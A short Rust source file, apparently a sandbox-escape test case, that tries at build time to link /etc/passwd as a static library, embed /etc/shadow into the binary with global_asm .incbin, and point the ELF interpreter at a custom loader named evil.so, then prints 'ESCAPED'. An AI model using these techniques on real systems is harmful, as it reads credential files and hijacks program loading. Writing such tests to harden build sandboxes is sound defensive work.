use std::arch::global_asm;

// A static library of the machine's files, another loader, and the password file in the program.
#[link(name = "/etc/passwd", kind = "static")]
extern "C" {}

#[link_section = ".interp"]
#[used]
static LOADER: [u8; 20] = *b"/workspace/evil.so\0\0";

global_asm!(".section .rodata", ".incbin \"/etc/shadow\"");

fn main() {
    println!("ESCAPED");
}
